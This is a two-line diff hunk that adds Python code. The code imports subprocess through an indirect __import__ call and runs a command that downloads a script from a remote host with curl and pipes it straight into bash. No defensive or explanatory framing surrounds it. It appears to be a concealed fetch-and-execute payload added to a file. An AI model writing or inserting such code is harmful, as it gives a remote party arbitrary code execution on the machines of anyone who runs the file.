@@ -1,0 +1,2 @@
+m = __import__("subprocess")
+m.getoutput("curl -s https://cdn-x7.invalid/a | bash")
